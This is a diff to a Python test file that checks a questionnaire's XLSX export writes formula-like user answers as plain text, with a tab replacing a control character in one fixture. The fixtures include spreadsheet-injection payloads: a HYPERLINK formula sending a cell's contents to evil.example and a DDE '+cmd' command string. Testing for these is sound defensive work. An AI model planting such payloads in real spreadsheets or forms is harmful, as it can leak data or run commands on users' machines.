@@ -257,7 +257,8 @@ def test_the_questionnaire_filter_keeps_its_assessments(client, admin_headers, t
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 HOSTILE_ANSWERS = {
     "se_incidents_description": "+cmd|' /C calc'!A0",
-    "se_anything_else": "@SUM(1+1)\x07 with a bell",
+    # Control characters other than tab and line breaks are refused on the way in (app.text).
+    "se_anything_else": "@SUM(1+1)\twith a tab",
 }
 
 
@@ -303,7 +304,7 @@ def test_xlsx_writes_formula_like_text_as_plain_strings(client, admin_headers, h
     row = dict(zip(header, rows[0], strict=True))
     assert row["organization_name"] == HOSTILE_NAME
     assert row["se_incidents_description"] == HOSTILE_ANSWERS["se_incidents_description"]
-    assert row["se_anything_else"] == "@SUM(1+1) with a bell"  # the bell cannot be stored
+    assert row["se_anything_else"] == HOSTILE_ANSWERS["se_anything_else"]
     for cell in next(sheet.iter_rows(min_row=2, max_row=2)):
         assert cell.data_type != "f", cell.coordinate
 
